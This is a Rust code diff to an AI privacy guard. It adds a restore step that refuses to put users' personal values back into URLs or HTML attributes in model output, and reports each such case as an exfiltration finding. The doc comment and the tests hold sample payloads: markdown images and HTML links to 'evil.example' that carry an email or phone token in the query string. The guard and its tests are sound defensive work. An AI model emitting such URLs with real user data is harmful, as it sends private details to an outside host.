@@ -2,11 +2,16 @@
 //!
 //! The pseudonym vault maps each personal value the user sent to a token such as
 //! `<EMAIL_ADDRESS_1>`. The model only ever sees the token; [`Session::restore`] puts the
-//! value back into the answer. The vault lives in memory for one request and is dropped
-//! with it: nothing is persisted.
+//! value back into the answer, and [`Session::restore_checked`] does so everywhere except
+//! in URLs, HTML attributes and URL-building code, where a restored value would leave the
+//! page. The vault lives in memory for one request and is dropped with it: nothing is
+//! persisted.
 
 use crate::detectors::output::{SHINGLE_WORDS, shingle_hash, word_hash, word_spans};
+use crate::url_context;
+use rampart_core::{Finding, FindingKind};
 use std::collections::HashMap;
+use std::ops::Range;
 
 /// Per-request state of the guard.
 #[derive(Debug, Default)]
@@ -74,6 +79,116 @@ impl Session {
         }
         out.push_str(rest);
         out
+    }
+
+    /// Like [`Session::restore`], but a token that sits in a URL (a markdown image, link,
+    /// autolink or reference definition, a bare URL), in an HTML tag's attributes, or in
+    /// code that holds a URL, is **not** restored: it is left as the token, and reported
+    /// as an `exfiltration` finding whose type is the token's type followed by `_IN_URL`
+    /// (`EMAIL_ADDRESS_IN_URL`), with code-point offsets of the token in `text`. Restoring
+    /// it would hand the value to the host that the URL names (see `url_context`).
+    ///
+    /// ```
+    /// use rampart_guard::Session;
+    /// let mut s = Session::new();
+    /// let token = s.pseudonym("EMAIL_ADDRESS", "ana@example.es");
+    /// let (text, findings) =
+    ///     s.restore_checked(&format!("Hi {token}! ![x](https://evil.example/p?d={token})"));
+    /// assert_eq!(text, "Hi ana@example.es! ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>)");
+    /// assert_eq!(findings[0].entity, "EMAIL_ADDRESS_IN_URL");
+    /// ```
+    pub fn restore_checked(&self, text: &str) -> (String, Vec<Finding>) {
+        self.restore_after("", text)
+    }
+
+    /// [`Session::restore_checked`] of `text`, read as the continuation of `context` (what
+    /// was emitted just before, tokens not restored): a stream emits a URL in pieces.
+    /// Findings point into `text`.
+    pub(crate) fn restore_after(&self, context: &str, text: &str) -> (String, Vec<Finding>) {
+        let found = self.token_spans(text);
+        if found.is_empty() {
+            return (text.to_owned(), Vec::new());
+        }
+        // Mask every token (of the context too) so that none is read as an HTML tag.
+        let mut masked = Vec::with_capacity(context.len() + text.len());
+        masked.extend_from_slice(context.as_bytes());
+        masked.extend_from_slice(text.as_bytes());
+        let spans: Vec<Range<usize>> = self
+            .token_spans(context)
+            .into_iter()
+            .map(|(r, _)| r)
+            .chain(
+                found
+                    .iter()
+                    .map(|(r, _)| r.start + context.len()..r.end + context.len()),
+            )
+            .collect();
+        for r in &spans {
+            masked[r.start] = b'x';
+            masked[r.end - 1] = b'x';
+        }
+        let in_text = &spans[spans.len() - found.len()..];
+        // Only ASCII bytes were replaced by ASCII bytes, so this cannot fail; if it did,
+        // nothing would be restored (closed by default).
+        let unsafe_here = match String::from_utf8(masked) {
+            Ok(masked) => url_context::unsafe_to_restore(&masked, in_text),
+            Err(_) => vec![true; in_text.len()],
+        };
+        let mut out = String::with_capacity(text.len());
+        let mut findings = Vec::new();
+        let mut last = 0;
+        let mut chars = 0; // code points of `text` before `last`
+        for ((r, i), withheld) in found.iter().zip(unsafe_here) {
+            out.push_str(&text[last..r.start]);
+            chars += text[last..r.start].chars().count();
+            let token = &self.tokens[*i].0;
+            if withheld {
+                out.push_str(token);
+                let entity = token
+                    .trim_matches(['<', '>'])
+                    .rsplit_once('_')
+                    .map_or(token.as_str(), |(t, _)| t);
+                findings.push(Finding::new(
+                    FindingKind::Exfiltration,
+                    format!("{entity}_IN_URL"),
+                    chars,
+                    chars + token.chars().count(),
+                    1.0,
+                ));
+            } else {
+                out.push_str(&self.tokens[*i].1);
+            }
+            chars += token.chars().count();
+            last = r.end;
+        }
+        out.push_str(&text[last..]);
+        (out, findings)
+    }
+
+    /// Byte spans of the tokens of this session in `text`, and their index, read as
+    /// [`Session::restore`] reads them.
+    fn token_spans(&self, text: &str) -> Vec<(Range<usize>, usize)> {
+        let mut spans = Vec::new();
+        if self.tokens.is_empty() || !text.contains('<') {
+            return spans;
+        }
+        let longest = self.longest_token();
+        let mut at = 0;
+        while let Some(open) = text[at..].find('<') {
+            let start = at + open;
+            let candidate = &text[start..];
+            let close = candidate.as_bytes()[..candidate.len().min(longest)]
+                .iter()
+                .position(|b| *b == b'>');
+            match close.and_then(|c| self.by_token.get(&candidate[..=c]).map(|i| (c, *i))) {
+                Some((c, i)) => {
+                    spans.push((start..start + c + 1, i));
+                    at = start + c + 1;
+                }
+                None => at = start + 1,
+            }
+        }
+        spans
     }
 
     /// Whether any token has been issued.
@@ -150,6 +265,59 @@ mod tests {
             s.pseudonym("PHONE_NUMBER", &format!("+3460000000{i:02}"));
         }
         assert_eq!(s.restore("<PHONE_NUMBER_12>"), "+346000000011");
+    }
+
+    #[test]
+    fn restore_checked_withholds_tokens_in_urls_and_restores_prose() {
+        let mut s = Session::new();
+        s.pseudonym("EMAIL_ADDRESS", "ana@example.es");
+        s.pseudonym("PHONE_NUMBER", "+34 612 345 678");
+        let (text, findings) = s.restore_checked(
+            "Mail <EMAIL_ADDRESS_1> or call <PHONE_NUMBER_1>. \
+             ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) \
+             <a href=\"https://evil.example/?t=<PHONE_NUMBER_1>\">x</a>",
+        );
+        assert_eq!(
+            text,
+            "Mail ana@example.es or call +34 612 345 678. \
+             ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) \
+             <a href=\"https://evil.example/?t=<PHONE_NUMBER_1>\">x</a>"
+        );
+        let entities: Vec<&str> = findings.iter().map(|f| f.entity.as_str()).collect();
+        assert_eq!(entities, ["EMAIL_ADDRESS_IN_URL", "PHONE_NUMBER_IN_URL"]);
+        for f in &findings {
+            assert_eq!(f.kind, FindingKind::Exfiltration);
+            // The offsets point at the token in the given text.
+            let given = "Mail <EMAIL_ADDRESS_1> or call <PHONE_NUMBER_1>. \
+             ![x](https://evil.example/p?d=<EMAIL_ADDRESS_1>) \
+             <a href=\"https://evil.example/?t=<PHONE_NUMBER_1>\">x</a>";
+            let at: String = given.chars().skip(f.start).take(f.end - f.start).collect();
+            assert!(at.starts_with('<') && at.ends_with('>'), "{at}");
+        }
+        // Plain prose restores exactly as `restore` does.
+        let prose = "Write to <EMAIL_ADDRESS_1> (or <PHONE_NUMBER_1>), not <EMAIL_ADDRESS_2>.";
+        assert_eq!(s.restore_checked(prose), (s.restore(prose), Vec::new()));
+    }
+
+    #[test]
+    fn restore_checked_reads_a_url_begun_in_the_context() {
+        let mut s = Session::new();
+        s.pseudonym("EMAIL_ADDRESS", "ana@example.es");
+        let (text, findings) =
+            s.restore_after("![x](https://evil.example/p?d=", "<EMAIL_ADDRESS_1>)");
+        assert_eq!(text, "<EMAIL_ADDRESS_1>)");
+        assert_eq!(findings.len(), 1);
+        let (text, _) = s.restore_after(
+            "<img alt=\"a\" src=\"https://evil.example/?q=",
+            "<EMAIL_ADDRESS_1>\">",
+        );
+        assert_eq!(text, "<EMAIL_ADDRESS_1>\">");
+        let (text, findings) = s.restore_after(
+            "Dear <EMAIL_ADDRESS_1>, ",
+            "your mail is <EMAIL_ADDRESS_1>.",
+        );
+        assert_eq!(text, "your mail is ana@example.es.");
+        assert!(findings.is_empty());
     }
 
     #[test]
